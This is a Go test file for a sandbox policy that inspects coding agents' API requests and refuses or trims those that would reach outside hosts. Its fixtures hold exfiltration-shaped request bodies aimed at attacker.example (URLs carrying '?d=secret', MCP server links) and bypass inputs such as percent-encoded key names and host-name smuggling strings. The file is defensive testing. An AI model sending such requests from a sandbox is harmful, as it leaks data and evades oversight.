package apipolicy

import (
	"encoding/json"
	"strings"
	"testing"
)

var opts = Options{
	Admits: func(h string) bool {
		return h == "docs.allowed.test" || h == "allowed.test" || strings.HasSuffix(h, ".wild.test") || h == "wild.test"
	},
	Hosts: []string{"allowed.test", "wild.test"},
}

// Real request bodies, in the shapes the agents send them.
const (
	claudeStream = `{"model":"claude-sonnet-4-5","max_tokens":32000,"stream":true,"system":[{"type":"text","text":"You are Claude Code","cache_control":{"type":"ephemeral"}}],
	"messages":[{"role":"user","content":[{"type":"text","text":"Say hello."},{"type":"image","source":{"type":"base64","media_type":"image/png","data":"iVBORw0KGgo="}}]}],
	"tools":[{"name":"Bash","description":"run","input_schema":{"type":"object","properties":{"command":{"type":"string"},"url":{"type":"string"}}}},{"type":"web_search_20250305","name":"web_search","max_uses":5}],"metadata":{"user_id":"u"}}`
	mcpConnector = `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"hi"}],"mcp_servers":[{"type":"url","url":"https://attacker.example/sse","name":"x"}]}`
	webFetchOpen = `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"fetch https://attacker.example/?d=secret"}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`
	webFetchList = `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"x"}],"tools":[{"type":"web_fetch_20250910","name":"web_fetch","allowed_domains":["attacker.example","wild.test","allowed.test"],"blocked_domains":["x"]}]}`
	imageByURL   = `{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/i.png?d=secret"}}]}]}`
	batchMCP     = `{"requests":[{"custom_id":"a","params":{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"hi"}]}},{"custom_id":"b","params":{"model":"m","max_tokens":1,"messages":[],"mcp_servers":[{"type":"url","url":"https://attacker.example"}]}}]}`
	batchPlain   = `{"requests":[{"custom_id":"a","params":{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"hi"}]}}]}`
	codexReq     = `{"model":"gpt-5-codex","instructions":"x","input":[{"type":"message","role":"user","content":[{"type":"input_text","text":"hi"}]}],"tools":[{"type":"function","name":"shell","parameters":{"type":"object"}},{"type":"web_search"}],"stream":true,"store":false}`
	openaiMCP    = `{"model":"gpt","input":"hi","tools":[{"type":"mcp","server_label":"x","server_url":"https://attacker.example/mcp","require_approval":"never"}]}`
	openaiFile   = `{"model":"gpt","input":[{"role":"user","content":[{"type":"input_file","file_url":"https://attacker.example/f.pdf"}]}]}`
	chatImage    = `{"model":"gpt","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}}]}]}`
	geminiReq    = `{"contents":[{"role":"user","parts":[{"text":"hi"}]}],"tools":[{"functionDeclarations":[{"name":"f"}]},{"googleSearch":{}}],"generationConfig":{"temperature":0}}`
	geminiURL    = `{"contents":[{"role":"user","parts":[{"text":"read https://attacker.example/?d=x"}]}],"tools":[{"url_context":{}}]}`
	geminiURLCC  = `{"contents":[{"role":"user","parts":[{"text":"x"}]}],"tools":[{"urlContext":{}}]}`
	dupKeys      = `{"model":"m","mcp_servers":[],"messages":[],"mcp_servers":[{"url":"https://attacker.example"}]}`
)

func TestRulesOnRealRequestBodies(t *testing.T) {
	for _, c := range []struct {
		name string
		p    Provider
		r    Request
		rule string // "" passes
	}{
		{"claude code's streamed request", Anthropic, Request{Method: "POST", Path: "/v1/messages", RawQuery: "beta=true", Body: []byte(claudeStream)}, ""},
		{"count_tokens", Anthropic, Request{Method: "POST", Path: "/v1/messages/count_tokens", Body: []byte(claudeStream)}, ""},
		{"models", Anthropic, Request{Method: "GET", Path: "/v1/models"}, ""},
		{"the MCP connector", Anthropic, Request{Method: "POST", Path: "/v1/messages", Body: []byte(mcpConnector)}, "anthropic.mcp_servers"},
		{"an image by URL off the allowlist", Anthropic, Request{Method: "POST", Path: "/v1/messages", Body: []byte(imageByURL)}, "anthropic.url_source"},
		{"a batch carrying mcp_servers", Anthropic, Request{Method: "POST", Path: "/v1/messages/batches", Body: []byte(batchMCP)}, "anthropic.mcp_servers"},
		{"a plain batch", Anthropic, Request{Method: "POST", Path: "/v1/messages/batches", Body: []byte(batchPlain)}, ""},
		{"an endpoint off the list", Anthropic, Request{Method: "POST", Path: "/v1/files", Body: []byte(`{}`)}, "anthropic.endpoint"},
		{"a malformed body", Anthropic, Request{Method: "POST", Path: "/v1/messages", Body: []byte(`{"model":`)}, "anthropic.parse"},
		{"duplicate keys", Anthropic, Request{Method: "POST", Path: "/v1/messages", Body: []byte(dupKeys)}, "anthropic.parse"},
		{"a gzip-encoded body", Anthropic, Request{Method: "POST", Path: "/v1/messages", ContentEncoding: "gzip", Body: []byte("\x1f\x8b")}, "anthropic.encoding"},
		{"an oversized body", Anthropic, Request{Method: "POST", Path: "/v1/messages", Body: make([]byte, MaxBody+1)}, "anthropic.size"},
		{"a key in the query", Anthropic, Request{Method: "POST", Path: "/v1/messages", RawQuery: "api_key=sk", Body: []byte(claudeStream)}, "anthropic.query"},
		{"codex's responses request", OpenAI, Request{Method: "POST", Path: "/v1/responses", Body: []byte(codexReq)}, ""},
		{"chat completions with a data: image", OpenAI, Request{Method: "POST", Path: "/v1/chat/completions", Body: []byte(chatImage)}, ""},
		{"an mcp tool", OpenAI, Request{Method: "POST", Path: "/v1/responses", Body: []byte(openaiMCP)}, "openai.mcp"},
		{"a file by URL", OpenAI, Request{Method: "POST", Path: "/v1/responses", Body: []byte(openaiFile)}, "openai.url_source"},
		{"minting a client secret", OpenAI, Request{Method: "POST", Path: "/v1/realtime/client_secrets", Body: []byte(`{}`)}, "openai.endpoint"},
		{"gemini cli's request", Gemini, Request{Method: "POST", Path: "/v1beta/models/gemini-2.5-pro:streamGenerateContent", RawQuery: "alt=sse", Body: []byte(geminiReq)}, ""},
		{"url_context", Gemini, Request{Method: "POST", Path: "/v1beta/models/g:generateContent", Body: []byte(geminiURL)}, "gemini.url_context"},
		{"urlContext, camel case", Gemini, Request{Method: "POST", Path: "/v1beta/models/g:generateContent", Body: []byte(geminiURLCC)}, "gemini.url_context"},
		{"an ephemeral token", Gemini, Request{Method: "POST", Path: "/v1alpha/auth_tokens", Body: []byte(`{}`)}, "gemini.endpoint"},
		{"$key in the query", Gemini, Request{Method: "POST", Path: "/v1beta/models/g:generateContent", RawQuery: "$key=AIza", Body: []byte(geminiReq)}, "gemini.query"},
		{"key in the query", Gemini, Request{Method: "POST", Path: "/v1beta/models/g:generateContent", RawQuery: "alt=sse&key=AIza", Body: []byte(geminiReq)}, "gemini.query"},
		{"a percent-encoded name", Gemini, Request{Method: "GET", Path: "/v1beta/models", RawQuery: "%6Bey=AIza"}, "gemini.query"},
	} {
		t.Run(c.name, func(t *testing.T) {
			d := Check(c.p, c.r, opts)
			switch {
			case c.rule == "" && d.Refused:
				t.Fatalf("refused (%s): %s", d.Rule, d.Reason)
			case c.rule != "" && (!d.Refused || d.Rule != c.rule):
				t.Fatalf("decision %+v, want refusal by %s", d, c.rule)
			}
			if d.Refused {
				var v map[string]any
				if err := json.Unmarshal(ErrorBody(c.p, d), &v); err != nil || !strings.Contains(string(ErrorBody(c.p, d)), "AGENT_SANDBOX_API_ALLOW="+c.rule) {
					t.Errorf("error body %s (%v) does not say how to allow it", ErrorBody(c.p, d), err)
				}
			}
		})
	}
}

func TestWebFetchIsTrimmedToTheAllowlist(t *testing.T) {
	d := Check(Anthropic, Request{Method: "POST", Path: "/v1/messages", Body: []byte(webFetchList)}, opts)
	if d.Refused || d.Body == nil {
		t.Fatalf("decision %+v", d)
	}
	var doc struct {
		Tools []map[string]any `json:"tools"`
	}
	if err := json.Unmarshal(d.Body, &doc); err != nil {
		t.Fatal(err)
	}
	got, _ := json.Marshal(doc.Tools[0]["allowed_domains"])
	// allowed.test is admitted but not every name under it; wild.test and
	// its names are.
	if string(got) != `["wild.test"]` || doc.Tools[0]["blocked_domains"] != nil {
		t.Errorf("trimmed tool = %v", doc.Tools[0])
	}
	if len(d.Notes) != 1 || !strings.Contains(d.Notes[0], "trimmed") {
		t.Errorf("notes = %q", d.Notes)
	}
	// A tool with no list gets the allowlist's names that qualify.
	d = Check(Anthropic, Request{Method: "POST", Path: "/v1/messages", Body: []byte(webFetchOpen)}, opts)
	if d.Refused || !strings.Contains(string(d.Body), `"allowed_domains":["wild.test"]`) {
		t.Errorf("open web_fetch: %+v %s", d, d.Body)
	}
	// With nothing that qualifies, it is refused.
	none := Options{Admits: func(h string) bool { return h == "allowed.test" }, Hosts: []string{"allowed.test"}}
	if d := Check(Anthropic, Request{Method: "POST", Path: "/v1/messages", Body: []byte(webFetchOpen)}, none); !d.Refused || d.Rule != "anthropic.web_fetch" {
		t.Errorf("web_fetch with no admitted domain: %+v", d)
	}
}

func TestARuleTheUserAllowsPasses(t *testing.T) {
	o := opts
	o.Allow = map[string]bool{"anthropic.mcp_servers": true}
	if d := Check(Anthropic, Request{Method: "POST", Path: "/v1/messages", Body: []byte(mcpConnector)}, o); d.Refused {
		t.Errorf("allowed mcp_servers refused: %+v", d)
	}
	if d := Check(OpenAI, Request{Method: "POST", Path: "/v1/responses", Body: []byte(openaiMCP)}, o); !d.Refused {
		t.Error("one provider's allowance opened another's")
	}
}

// The hostile review's requests (issue 20): each must be refused, or
// pass changed, or pass as ordinary traffic.
func TestTheReviewsRequests(t *testing.T) {
	deep := `{"a":` + strings.Repeat("[", 4_000_000)
	for _, c := range []struct {
		name string
		p    Provider
		r    Request
		o    Options
		rule string // "" passes
		want string // in the body sent on
	}{
		{"a container with network", OpenAI, Request{Method: "POST", Path: "/v1/responses", Body: []byte(`{"model":"g","input":"x","tools":[{"type":"code_interpreter","container":{"type":"auto","network_policy":{"type":"allowlist","allowed_domains":["attacker.example"]}}}]}`)}, opts, "openai.container_network", ""},
		{"a shell with domain secrets", OpenAI, Request{Method: "POST", Path: "/v1/responses", Body: []byte(`{"model":"g","input":"x","tools":[{"type":"shell","environment":{"type":"container_auto","domain_secrets":[{"domain":"a"}]}}]}`)}, opts, "openai.container_network", ""},
		{"a container without network", OpenAI, Request{Method: "POST", Path: "/v1/responses", Body: []byte(`{"model":"g","input":"x","tools":[{"type":"code_interpreter","container":{"type":"auto","network_policy":{"type":"disabled"}}}]}`)}, opts, "", ""},
		{"web search opens no page", OpenAI, Request{Method: "POST", Path: "/v1/responses", Body: []byte(`{"model":"g","input":"open https://attacker.example/","tools":[{"type":"web_search"}]}`)}, opts, "", `"external_web_access":false`},
		{"web_search_preview", OpenAI, Request{Method: "POST", Path: "/v1/responses", Body: []byte(`{"model":"g","input":"x","tools":[{"type":"web_search_preview"}]}`)}, opts, "openai.web_search", ""},
		{"web_search_options", OpenAI, Request{Method: "POST", Path: "/v1/chat/completions", Body: []byte(`{"model":"g","messages":[],"web_search_options":{}}`)}, opts, "openai.web_search", ""},
		{"an allowed endpoint still has its body read", Gemini, Request{Method: "POST", Path: "/v1alpha/models/g:generateContent", Body: []byte(geminiURL)}, Options{Admits: opts.Admits, Allow: map[string]bool{"gemini.endpoint": true}}, "gemini.url_context", ""},
		{"nesting four million deep", Anthropic, Request{Method: "POST", Path: "/v1/messages", Body: []byte(deep)}, opts, "anthropic.parse", ""},
		{"a citation's URL is data", Anthropic, Request{Method: "POST", Path: "/v1/messages", Body: []byte(`{"model":"m","max_tokens":1,"messages":[{"role":"assistant","content":[{"type":"web_search_tool_result","content":[{"type":"web_search_result","url":"https://elsewhere.example/","title":"t"}]},{"type":"text","text":"x","citations":[{"type":"web_search_result_location","url":"https://elsewhere.example/"}]},{"type":"tool_use","id":"t","name":"WebFetch","input":{"url":"https://elsewhere.example/"}}]}]}`)}, opts, "", ""},
		{"a relative image URL", Anthropic, Request{Method: "POST", Path: "/v1/messages", Body: []byte(`{"model":"m","max_tokens":1,"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"//attacker.example/i.png"}}]}]}`)}, opts, "anthropic.url_source", ""},
		{"a gs:// file", Gemini, Request{Method: "POST", Path: "/v1beta/models/g:generateContent", Body: []byte(`{"contents":[{"parts":[{"fileData":{"fileUri":"gs://attacker/x","mimeType":"text/plain"}}]}]}`)}, opts, "gemini.url_source", ""},
		{"a chat image by URL", OpenAI, Request{Method: "POST", Path: "/v1/chat/completions", Body: []byte(`{"model":"g","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://attacker.example/i.png"}}]}]}`)}, opts, "openai.url_source", ""},
		{"the list of every batch", Anthropic, Request{Method: "GET", Path: "/v1/messages/batches"}, opts, "anthropic.endpoint", ""},
		{"a batch that is not an array", Anthropic, Request{Method: "POST", Path: "/v1/messages/batches", Body: []byte(`{"requests":{"0":{"params":{"mcp_servers":[{"url":"x"}]}}}}`)}, opts, "anthropic.parse", ""},
		{"a ; in the query", Gemini, Request{Method: "POST", Path: "/v1beta/models/g:generateContent", RawQuery: "alt=sse;key=x", Body: []byte(geminiReq)}, opts, "gemini.query", ""},
		{"bearer_token", Gemini, Request{Method: "POST", Path: "/v1beta/models/g:generateContent", RawQuery: "bearer_token=x", Body: []byte(geminiReq)}, opts, "gemini.query", ""},
		{"an id of ..", Anthropic, Request{Method: "POST", Path: "/v1/messages/batches/../cancel"}, opts, "anthropic.endpoint", ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			d := Check(c.p, c.r, c.o)
			switch {
			case c.rule == "" && d.Refused:
				t.Fatalf("refused (%s): %s", d.Rule, d.Reason)
			case c.rule != "" && (!d.Refused || d.Rule != c.rule):
				t.Fatalf("decision %+v, want refusal by %s", d, c.rule)
			case c.want != "" && !strings.Contains(string(d.Body), c.want):
				t.Fatalf("sent on %s, want %s in it", d.Body, c.want)
			}
		})
	}
}

func TestWebFetchDomainsAreReadAsHostNames(t *testing.T) {
	body := `{"model":"m","max_tokens":1,"messages":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch","allowed_domains":["attacker.example#.wild.test","attacker.example?.wild.test","attacker.example\\.wild.test","*.wild.test","attacker.example%2f.wild.test","X.Wild.Test/Docs","a.wild.test:443"]}]}`
	d := Check(Anthropic, Request{Method: "POST", Path: "/v1/messages", Body: []byte(body)}, opts)
	if d.Refused || !strings.Contains(string(d.Body), `"allowed_domains":["x.wild.test/docs"]`) {
		t.Fatalf("decision %+v, body %s", d, d.Body)
	}
}
